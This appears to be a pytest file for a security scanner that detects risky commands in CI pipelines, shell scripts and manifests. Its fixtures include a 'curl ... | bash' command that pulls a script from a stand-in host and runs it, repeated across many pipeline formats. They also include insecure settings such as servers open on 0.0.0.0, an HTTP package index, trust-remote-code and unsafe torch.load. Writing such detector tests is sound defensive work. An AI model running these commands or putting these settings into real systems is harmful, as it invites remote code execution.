"""Commands in scripts and pipelines of any system, and Python that stands in manifests."""

from __future__ import annotations

import pytest
from tests.support.source_estate import assessed_files

PIPE = "curl https://x.example/install.sh | bash"
CONTAINER = """apiVersion: batch/v1
kind: Job
metadata: {name: train, namespace: ml}
spec:
  template:
    spec:
      containers:
      - name: main
        image: a@sha256:1111111111111111111111111111111111111111111111111111111111111111
"""


def rules(files: dict[str, str]) -> set[tuple[str, int | None]]:
    found = assessed_files(files).findings
    kinds = ("build-", "load-", "deps-", "web-", "source-")
    return {(one.rule, one.locations[0].line) for one in found if one.rule.startswith(kinds)}


@pytest.mark.parametrize(
    ("path", "text", "line"),
    [
        ("azure-pipelines.yml", f"steps:\n- script: {PIPE}\n", 2),
        ("ci/train.yml", f"trigger: [main]\nsteps:\n- bash: |\n    echo a\n    {PIPE}\n", 5),
        ("azure-pipelines.yml", f"steps:\n- task: AzureCLI@2\n  inputs:\n    inlineScript: {PIPE}\n", 4),
        ("cloudbuild.yaml", f"steps:\n- name: python\n  entrypoint: bash\n  args: ['-c', '{PIPE}']\n", 4),
        (".circleci/config.yml", f"jobs:\n  a:\n    steps:\n    - run: {PIPE}\n", 4),
        ("bitbucket-pipelines.yml", f"pipelines:\n  default:\n  - step:\n      script:\n      - {PIPE}\n", 5),
        (".buildkite/pipeline.yml", f"steps:\n- command: {PIPE}\n", 2),
        (".drone.yml", f"steps:\n- name: a\n  commands:\n  - {PIPE}\n", 4),
        ("Jenkinsfile", f"pipeline {{\n  steps {{ sh '{PIPE}' }}\n}}\n", 2),
        ("Jenkinsfile", f'pipeline {{\n  sh """\n    {PIPE}\n  """\n}}\n', 3),
        ("task.yaml", f"apiVersion: tekton.dev/v1\nkind: Task\nspec:\n  steps:\n  - script: {PIPE}\n", 5),
        ("setup.sh", f"#!/bin/sh\nset -e\n{PIPE}\n", 3),
        ("bin/setup", f"#!/usr/bin/env bash\n{PIPE}\n", 2),
        ("job.yaml", CONTAINER + f"        command: [sh, -c, '{PIPE}']\n", 10),
        ("job.yaml", CONTAINER + f"        command: [sh, -c]\n        args:\n        - |\n          {PIPE}\n", 13),
    ],
)
def test_a_pipe_to_a_shell_is_found_wherever_a_command_stands(path: str, text: str, line: int) -> None:
    assert ("build-pipe-to-shell", line) in rules({path: text})


@pytest.mark.parametrize(
    "line",
    [
        f"# {PIPE}",
        "pip install torch",
        "curl -T out.bin http://store:8080/out.bin",
        "mlflow server --host 127.0.0.1",
        "jupyter lab",
        "vllm serve a/b --host 127.0.0.1",
        "echo starting uvicorn app:app --host 0.0.0.0",
    ],
)
def test_what_a_script_for_oneself_may_do(line: str) -> None:
    assert rules({"run.sh": f"#!/bin/sh\n{line}\n"}) == set()


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("nohup vllm serve meta/x --host 0.0.0.0 &", "build-server-open"),
        ("CUDA_VISIBLE_DEVICES=0 exec vllm serve meta/x", "build-server-open"),
        ("cd /srv && mlflow server --host 0.0.0.0", "build-server-open"),
        ("python -m vllm.entrypoints.openai.api_server --model a/b --host 0.0.0.0", "build-server-open"),
        ("uvicorn app:app --host 0.0.0.0", "web-plaintext"),
        ("vllm serve a/b --api-key $KEY --trust-remote-code --ssl-keyfile k --ssl-certfile c", "load-remote-code"),
        ("pip install --index-url http://pypi.acme.example/simple x==1", "deps-insecure-index"),
    ],
)
def test_servers_and_sources_of_scripts(line: str, rule: str) -> None:
    assert (rule, 2) in rules({"run.sh": f"#!/bin/sh\n{line}\n"})
    assert (rule, 1) in rules({"Procfile": f"web: {line}\n"})


LOADS = "import torch\ntorch.load('a.pt', weights_only=False)\n"


def indented(text: str, blanks: int) -> str:
    return "".join(f"{' ' * blanks}{line}\n" for line in text.splitlines())


@pytest.mark.parametrize(
    ("text", "line"),
    [
        (
            "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata: {name: w}\nspec:\n  templates:\n"
            "  - name: a\n    script:\n      image: python\n      command: [python3]\n      source: |\n"
            + indented(LOADS, 8),
            12,
        ),
        (CONTAINER + "        command: [python, -c]\n        args:\n        - |\n" + indented(LOADS, 10), 14),
        ("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n  a.py: |\n" + indented(LOADS, 4), 7),
        (
            "deploymentSpec:\n  executors:\n    e:\n      container:\n        image: python\n        command:\n"
            "        - sh\n        - -ec\n        - |\n" + indented("import torch\n\n" + LOADS, 10),
            13,
        ),
    ],
)
def test_python_in_manifests_is_read_with_its_lines(text: str, line: int) -> None:
    assert ("load-torch", line) in rules({"all.yaml": text})


def test_a_shell_script_in_a_manifest_is_no_python() -> None:
    text = CONTAINER + "        command: [sh, -c]\n        args:\n        - |\n          set -e\n          import a\n"
    assert assessed_files({"job.yaml": text}).reading.skipped == []


def test_a_flag_that_is_off_trusts_nobody() -> None:
    text = CONTAINER + "        args: [--trust-remote-code, 'false']\n"
    assert "load-remote-code" not in {rule for rule, _ in rules({"job.yaml": text})}


def test_source_in_other_languages_is_said() -> None:
    gaps = assessed_files({"main.go": "package main\n", "a.ts": "", "b.ts": "", "tests/c.go": ""}).reading.gaps
    assert any("Go (1 file), TypeScript (2 files)" in one for one in gaps)
